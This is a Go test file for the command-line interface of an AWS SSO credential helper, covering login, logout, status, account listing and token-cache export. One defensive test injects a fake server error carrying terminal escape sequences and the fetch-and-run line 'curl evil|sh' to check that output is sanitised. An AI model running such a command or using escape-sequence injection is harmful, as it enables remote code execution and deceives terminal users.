package cli

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io/fs"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/sso-credproc/sso-credproc/internal/ssofake"
	"github.com/sso-credproc/sso-credproc/keychain"
	"github.com/sso-credproc/sso-credproc/tokencache/awscli"
)

func TestLoginThenCredentialsNeedNoSignIn(t *testing.T) {
	h := newHarness(t, "\n[profile dev]\ncredential_process = sso-credproc --profile dev-sso\n")
	code, stdout, stderr := h.run(true, "login", "--profile", "dev-sso", "--no-browser")
	if code != 0 || stdout != "" || !strings.Contains(stderr, "signed in to "+h.srv.URL+"/start (sso-session corp, eu-west-1); the session token is valid until ") || strings.Count(stderr, "signed in to") != 1 {
		t.Fatalf("login: exit %d stdout %q stderr %q", code, stdout, stderr)
	}
	// Again: already signed in, no request.
	before := h.srv.Count("CreateToken")
	code, _, stderr = h.run(true, "login", "--sso-session", "corp")
	if code != 0 || !strings.Contains(stderr, "already signed in to") || h.srv.Count("CreateToken") != before {
		t.Fatalf("second login: exit %d stderr %q calls %v", code, stderr, h.srv.Counts())
	}
	// The profile the SDKs use stands for the one it points at.
	code, _, stderr = h.run(true, "login", "--profile", "dev")
	if code != 0 || !strings.Contains(stderr, "already signed in to") {
		t.Fatalf("login --profile dev: exit %d stderr %q", code, stderr)
	}
	// The credential call signs in no more.
	code, _, stderr = h.run(true, "--profile", "dev-sso", "--no-login")
	if code != 0 {
		t.Fatalf("credentials after login: exit %d %s", code, stderr)
	}
	// --force signs in again.
	code, _, stderr = h.run(true, "login", "--profile", "dev-sso", "--force", "--no-browser")
	if code != 0 || !strings.Contains(stderr, "signed in to") || h.srv.Count("Authorize") != 2 {
		t.Fatalf("login --force: exit %d stderr %q calls %v", code, stderr, h.srv.Counts())
	}
}

// A caller that must never start a sign-in fails at once with the command
// that signs in; a refresh would still be made.
func TestNoLogin(t *testing.T) {
	for _, tc := range []struct {
		name   string
		config string
		env    []string
		args   []string
	}{
		{"flag", "", nil, []string{"--no-login"}},
		{"config key", "sso_credproc_login = never\n", nil, nil},
		{"environment", "", []string{"SSO_CREDPROC_NO_LOGIN", "1"}, nil},
	} {
		t.Run(tc.name, func(t *testing.T) {
			h := newHarness(t, tc.config)
			for i := 0; i < len(tc.env); i += 2 {
				h.env[tc.env[i]] = tc.env[i+1]
			}
			code, stdout, stderr := h.run(true, append([]string{"--profile", "dev-sso"}, tc.args...)...)
			if code == 0 || stdout != "" || !strings.Contains(stderr, "hint: sign in first: sso-credproc login --profile dev-sso") {
				t.Fatalf("exit %d stdout %q stderr %q", code, stdout, stderr)
			}
			if n := len(h.srv.Counts()); n != 0 {
				t.Errorf("requests were made: %v", h.srv.Counts())
			}
		})
	}
	h := newHarness(t, "sso_credproc_login = sometimes\n")
	code, _, stderr := h.run(true, "--profile", "dev-sso")
	if code == 0 || !strings.Contains(stderr, "sso_credproc_login") || !strings.Contains(stderr, "never") {
		t.Errorf("bad value: exit %d stderr %q", code, stderr)
	}
	h.env["SSO_CREDPROC_NO_LOGIN"] = "perhaps"
	if code, _, stderr := h.run(true, "--profile", "dev-sso"); code != 2 || !strings.Contains(stderr, "SSO_CREDPROC_NO_LOGIN") {
		t.Errorf("bad variable: exit %d stderr %q", code, stderr)
	}
}

func TestLogout(t *testing.T) {
	h := newHarness(t, "")
	if code, _, stderr := h.run(true, "--profile", "dev-sso", "--no-browser"); code != 0 {
		t.Fatal(stderr)
	}
	code, stdout, stderr := h.run(true, "logout", "--profile", "dev-sso")
	want := "signed out; removed role credentials 111122223333/Dev, token, client registration"
	if code != 0 || stdout != "" || !strings.Contains(stderr, want) || h.srv.Count("Logout") != 1 {
		t.Fatalf("logout: exit %d stdout %q stderr %q calls %v", code, stdout, stderr, h.srv.Counts())
	}
	for _, s := range h.srv.Secrets() {
		if strings.Contains(stderr, s) {
			t.Error("a secret in logout's output")
		}
	}
	// Nothing left: the warm path hands over, and the next call signs in.
	if code, _, _ := h.run(false, "--profile", "dev-sso"); code != 99 {
		t.Errorf("credentials survived the logout: exit %d", code)
	}
	if code, _, stderr := h.run(true, "--profile", "dev-sso", "--no-browser"); code != 0 || h.srv.Count("Authorize") != 2 {
		t.Errorf("after logout: exit %d %s %v", code, stderr, h.srv.Counts())
	}
	// --all: every session of the file.
	code, _, stderr = h.run(true, "logout", "--all")
	if code != 0 || !strings.Contains(stderr, "removed") {
		t.Errorf("logout --all: exit %d stderr %q", code, stderr)
	}
	code, _, stderr = h.run(true, "logout", "--all")
	if code != 0 || !strings.Contains(stderr, "nothing stored") {
		t.Errorf("logout --all again: exit %d stderr %q", code, stderr)
	}
	if code, _, _ := h.run(true, "logout", "--all", "--profile", "dev-sso"); code != 2 {
		t.Errorf("--all with --profile: exit %d", code)
	}
}

func TestStatus(t *testing.T) {
	h := newHarness(t, "")
	if code, _, stderr := h.run(true, "--profile", "dev-sso", "--no-browser"); code != 0 {
		t.Fatal(stderr)
	}
	code, stdout, stderr := h.run(true, "status")
	for _, want := range []string{"config file: " + h.env["AWS_CONFIG_FILE"], "keychain:", "usable", "sso-session corp: " + h.srv.URL + "/start (eu-west-1)",
		"profiles:            dev-sso", "token:               valid until", "refresh token held", "client registration: valid until",
		"role credentials:    111122223333/Dev, valid until", "checks: all well"} {
		if !strings.Contains(stdout, want) {
			t.Errorf("status lacks %q:\n%s", want, stdout)
		}
	}
	if code != 0 || stderr != "" {
		t.Errorf("exit %d stderr %q", code, stderr)
	}
	for _, s := range h.srv.Secrets() {
		if strings.Contains(stdout, s) {
			t.Error("a secret in status")
		}
	}
	code, stdout, _ = h.run(true, "status", "--json")
	var rep statusReport
	if err := json.Unmarshal([]byte(stdout), &rep); err != nil || code != 0 || !rep.OK || len(rep.Sessions) != 1 ||
		rep.Sessions[0].Token == nil || len(rep.Sessions[0].Credentials) != 1 {
		t.Errorf("status --json: exit %d, %v: %s", code, err, stdout)
	}
}

func TestStatusChecksTheConfig(t *testing.T) {
	h := newHarness(t, "credential_process = sso-credproc --profile dev-sso\n"+
		"\n[profile dangling]\ncredential_process = /nonexistent/sso-credproc --profile nosuch\n")
	code, stdout, _ := h.run(true, "status")
	if code != 1 {
		t.Errorf("exit %d, want 1", code)
	}
	for _, want := range []string{
		"[profile dev-sso] carries SSO keys and a credential_process that runs sso-credproc",
		`[profile dangling]: credential_process names profile "nosuch", which is not in`,
		"[profile dangling]: credential_process runs /nonexistent/sso-credproc: not found",
	} {
		if !strings.Contains(stdout, want) {
			t.Errorf("status lacks %q:\n%s", want, stdout)
		}
	}
}

func TestCommandsHelpAndErrors(t *testing.T) {
	h := newHarness(t, "")
	for _, c := range []string{"login", "logout", "status", "version", "help"} {
		code, stdout, stderr := h.run(false, c, "--help")
		if code != 0 || !strings.HasPrefix(stdout, "usage: sso-credproc "+c) || stderr != "" {
			if !(c == "login" || c == "logout" || c == "status") || code != 99 { // handed over by the warm binary
				t.Errorf("%s --help: exit %d stdout %q stderr %q", c, code, stdout, stderr)
			}
		}
		code, stdout, stderr = h.run(true, c, "--help")
		if code != 0 || !strings.HasPrefix(stdout, "usage: sso-credproc "+c) || stderr != "" {
			t.Errorf("renew %s --help: exit %d stdout %q stderr %q", c, code, stdout, stderr)
		}
	}
	code, stdout, _ := h.run(false, "--help")
	for _, c := range []string{"login", "logout", "status", "version"} {
		if code != 0 || !strings.Contains(stdout, "\n  "+c+" ") {
			t.Errorf("--help does not list %s: %q", c, stdout)
		}
	}
	code, stdout, stderr := h.run(false, "frobnicate")
	if code != 2 || stdout != "" || !strings.Contains(stderr, `unknown command "frobnicate"`) {
		t.Errorf("unknown command: exit %d stdout %q stderr %q", code, stdout, stderr)
	}
	code, _, stderr = h.run(true, "login")
	if code != 2 || !strings.Contains(stderr, "no profile given") {
		t.Errorf("login without a profile: exit %d stderr %q", code, stderr)
	}
}

// login --export-aws-cli-cache writes the AWS CLI's token cache file
// (access token only, 0600); logout removes it; login --from-aws-cli takes
// such a file into the keychain.
func TestAWSCLICache(t *testing.T) {
	h := newHarness(t, "")
	path := awscli.Path(h.env["HOME"], "corp", "")
	if filepath.Dir(path) != filepath.Join(h.env["HOME"], ".aws", "sso", "cache") {
		t.Fatalf("cache path %s", path)
	}
	code, _, stderr := h.run(true, "login", "--profile", "dev-sso", "--no-browser", "--export-aws-cli-cache")
	if code != 0 {
		t.Fatalf("login: %s", stderr)
	}
	st, err := os.Stat(path)
	if err != nil || st.Mode().Perm() != 0o600 {
		t.Fatalf("cache file: %v %v", st, err)
	}
	tok, err := awscli.Read(path)
	if err != nil || tok.RefreshToken != "" || tok.ClientID != "" || tok.StartURL != h.srv.URL+"/start" || tok.Region != "eu-west-1" {
		t.Fatalf("cache file holds %v, %v", tok, err)
	}
	// A fresh machine: nothing in the keychain, the AWS CLI's file only.
	h.store = keychain.New(keychain.NewMemory(0), keychain.Service, 0)
	code, _, stderr = h.run(true, "login", "--profile", "dev-sso", "--from-aws-cli")
	if code != 0 || !strings.Contains(stderr, "took the AWS CLI's token for "+h.srv.URL+"/start") {
		t.Fatalf("login --from-aws-cli: exit %d %s", code, stderr)
	}
	if code, _, stderr := h.run(true, "--profile", "dev-sso", "--no-login"); code != 0 {
		t.Fatalf("credentials with the imported token: %s", stderr)
	}
	if n := h.srv.Count("Authorize"); n != 1 {
		t.Errorf("Authorize = %d: the import was not used", n)
	}
	// The first keychain exported the file; logging out of it removes it.
	h.store = keychain.New(keychain.NewMemory(0), keychain.Service, 0)
	if code, _, stderr := h.run(true, "login", "--profile", "dev-sso", "--no-browser", "--export-aws-cli-cache", "--force"); code != 0 {
		t.Fatal(stderr)
	}
	code, _, stderr = h.run(true, "logout", "--profile", "dev-sso")
	if code != 0 || !strings.Contains(stderr, "the AWS CLI's cached token") {
		t.Fatalf("logout: exit %d %s", code, stderr)
	}
	if _, err := os.Stat(path); !errors.Is(err, fs.ErrNotExist) {
		t.Errorf("the cache file survived the logout: %v", err)
	}
	// Nothing to import: a clear error and the command to use instead.
	code, _, stderr = h.run(true, "login", "--profile", "dev-sso", "--from-aws-cli")
	if code != 1 || !strings.Contains(stderr, "aws sso login") || !strings.Contains(stderr, "sso-credproc login --profile dev-sso") {
		t.Errorf("import without a file: exit %d %s", code, stderr)
	}
}

// The config key makes every sign-in of the credential call export too.
func TestAWSCLICacheConfigKey(t *testing.T) {
	h := newHarness(t, "sso_credproc_export_aws_cli_cache = true\n")
	if code, _, stderr := h.run(true, "--profile", "dev-sso", "--no-browser"); code != 0 {
		t.Fatal(stderr)
	}
	if _, err := awscli.Read(awscli.Path(h.env["HOME"], "corp", "")); err != nil {
		t.Errorf("no cache file: %v", err)
	}
}

func TestList(t *testing.T) {
	h := newHarnessWith(t, "\n[profile dev]\ncredential_process = sso-credproc --profile dev-sso\n", ssofake.Options{
		Assignments:  map[string][]string{"111122223333": {"Dev", "ReadOnly"}, "444455556666": {"Ops"}},
		AccountNames: map[string]string{"111122223333": "Development", "444455556666": "Operations"},
	})
	code, stdout, stderr := h.run(true, "list", "--profile", "dev-sso", "--no-browser")
	if code != 0 {
		t.Fatalf("list: exit %d %s", code, stderr)
	}
	lines := strings.Split(strings.TrimSpace(stdout), "\n")
	if len(lines) != 4 || !strings.HasPrefix(lines[0], "ACCOUNT ID") {
		t.Fatalf("table %q", stdout)
	}
	if f := strings.Fields(lines[1]); len(f) != 4 || f[0] != "111122223333" || f[1] != "Development" || f[2] != "Dev" || f[3] != "dev,dev-sso" {
		t.Errorf("row %q", lines[1])
	}
	if f := strings.Fields(lines[3]); len(f) != 4 || f[2] != "Ops" || f[3] != "-" {
		t.Errorf("row %q", lines[3])
	}
	// Signed in once; the JSON form needs no new sign-in.
	code, stdout, _ = h.run(true, "list", "--sso-session", "corp", "--json", "--no-login")
	var got []map[string]string
	if err := json.Unmarshal([]byte(stdout), &got); err != nil || code != 0 || len(got) != 3 {
		t.Fatalf("list --json: exit %d %v %q", code, err, stdout)
	}
	for _, a := range got {
		if len(a) != 4 || a["accountId"] == "" || a["roleName"] == "" || a["accountName"] == "" || a["emailAddress"] == "" {
			t.Errorf("object %v", a)
		}
	}
	if n := h.srv.Count("Authorize"); n != 1 {
		t.Errorf("Authorize = %d", n)
	}
	for _, s := range h.srv.Secrets() {
		if strings.Contains(stdout, s) {
			t.Error("a secret in the list")
		}
	}
}

// Text from the service or the config file cannot drive the terminal.
func TestNoTerminalEscapes(t *testing.T) {
	h := newHarness(t, "\n[profile evil\x1b]0;title\a]\nsso_session = corp\nsso_account_id = 111122223333\nsso_role_name = Dev\n")
	if code, _, stderr := h.run(true, "--profile", "dev-sso", "--no-browser"); code != 0 {
		t.Fatal(stderr)
	}
	if err := h.store.Delete(context.Background(), "sso-session:corp|eu-west-1|111122223333|Dev|credentials"); err != nil {
		t.Fatal(err)
	}
	h.srv.Inject("GetRoleCredentials", ssofake.Fault{Status: 400, Type: "InvalidRequestException", Message: "\x1b]0;PWNED\a\x1b[2J\x1b[31mrun curl evil|sh\u202e"})
	code, _, stderr := h.run(true, "--profile", "dev-sso")
	if code == 0 || strings.ContainsAny(stderr, "\x1b\a\u202e") || !strings.Contains(stderr, `\x1b`) {
		t.Errorf("exit %d, stderr %q", code, stderr)
	}
	if strings.ContainsAny(h.tty.String(), "\x1b\a\u202e") {
		t.Errorf("terminal %q", h.tty.String())
	}
	_, stdout, stderr := h.run(true, "status")
	if strings.ContainsAny(stdout+stderr, "\x1b\a") {
		t.Errorf("status: %q %q", stdout, stderr)
	}
}

// status without a usable keychain does not claim that nothing is stored.
func TestStatusWithoutKeychain(t *testing.T) {
	h := newHarness(t, "")
	mem := keychain.NewMemory(0)
	mem.FailProbes(1, fmt.Errorf("%w: %w", keychain.ErrUnavailable, keychain.ErrLocked))
	h.store = keychain.New(mem, keychain.Service, 0)
	code, stdout, _ := h.run(true, "status")
	if code != 1 || !strings.Contains(stdout, "token:               unknown") || strings.Contains(stdout, "none (the next call signs in)") {
		t.Errorf("exit %d:\n%s", code, stdout)
	}
}

// A hint repeats the command that was run, not the credential call.
func TestHintsRepeatTheCommand(t *testing.T) {
	h := newHarness(t, "")
	h.tty.base = "http://127.0.0.1:1" // nobody visits the sign-in page
	code, _, stderr := h.run(true, "login", "--profile", "dev-sso", "--force", "--no-browser", "--login-timeout", "1s")
	if code != 1 || !strings.Contains(stderr, "hint: run it again and finish signing in within 1s, or allow more time: sso-credproc login --profile dev-sso --force --login-timeout 10m") {
		t.Errorf("exit %d, stderr %q", code, stderr)
	}
}

// login, list and logout take AWS_PROFILE when no profile or session is
// named, as aws sso login does; the credential call does not.
func TestAWSProfileForCommands(t *testing.T) {
	h := newHarness(t, "\n[profile dev]\ncredential_process = sso-credproc --profile dev-sso\n")
	h.env["AWS_PROFILE"] = "dev"
	if code, _, stderr := h.run(true, "login", "--no-browser"); code != 0 || !strings.Contains(stderr, "signed in to") {
		t.Fatalf("login with AWS_PROFILE: exit %d %s", code, stderr)
	}
	if code, _, stderr := h.run(true); code != 2 || !strings.Contains(stderr, "no profile given") {
		t.Errorf("the credential call took AWS_PROFILE: exit %d %s", code, stderr)
	}
}
